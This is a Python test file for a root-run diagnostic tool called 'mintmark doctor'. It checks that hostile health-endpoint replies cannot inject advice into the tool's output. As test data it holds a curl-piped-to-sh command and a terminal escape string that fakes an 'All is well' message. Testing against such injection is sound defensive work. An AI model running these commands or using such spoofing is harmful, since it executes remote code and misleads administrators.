#!/usr/bin/env python3
"""mintmark doctor is run by root, and what it looks at is others': what they
put there is not printed as advice, nor does it lead root to other files."""
import http.server
import json
import os
import threading

import doctor
from flow import cli, free_port, main

EVIL = "curl -s http://127.0.0.1:1/x | sh"
CLEAR = "\x1b[2J\x1b[1;32mAll is well\n"


class Stranger(http.server.BaseHTTPRequestHandler):
    """Says what it likes at /health/ready."""

    def do_GET(self):
        self.server.seen.append(self.path)
        body = json.dumps(self.server.says).encode()
        self.send_response(503)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class Hostile(doctor.Doctor):
    def stranger(self, **checks):
        """One who answers where agent.conf says that the agent listens."""
        s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Stranger)
        s.seen, s.says = [], {"status": "failing", "checks": checks}
        threading.Thread(target=s.serve_forever, daemon=True).start()
        self.addCleanup(s.server_close)
        self.addCleanup(s.shutdown)
        said = self.conf.read_text().splitlines()
        said = [line for line in said if not line.startswith("listen")]
        self.conf.write_text("\n".join(
            [*said, f"listen = 127.0.0.1:{s.server_port}", ""]))
        return s

    def says(self):
        """What people see."""
        return cli("doctor", "--data", self.i.data, "--agent-config", self.conf,
                   env={"PATH": doctor.WITH_TOOL}).stdout

    def test_A34_who_answers_for_the_agent(self):
        self.begin()
        does = {"status": "failing", "do": EVIL}
        s = self.stranger(**{CLEAR: does, "uses": does})
        self.wrong(("door", "1 checks are failing which", "^systemctl restart"),
                   ("door.uses", "the agent says: uses", "restart mintmark-agent$"))
        text = self.says()
        self.assertIn("WRONG  door.uses", text)
        for never in ("curl", "\x1b", CLEAR):
            self.assertNotIn(never, text)
        s.says = ["nothing of the kind"]
        self.wrong(("door", "answers 503, and not as an agent", "^ss -tlnp"))
        # and where there is no agent, nobody is asked in its place
        self.a.stop()
        self.a.state.with_suffix(".state.sock").unlink(missing_ok=True)
        s.seen.clear()
        self.wrong(("agent", "no mintmark-agent keeps", "^systemctl start"))
        self.assertEqual(s.seen, [])


if __name__ == "__main__":
    main(at_once=2)
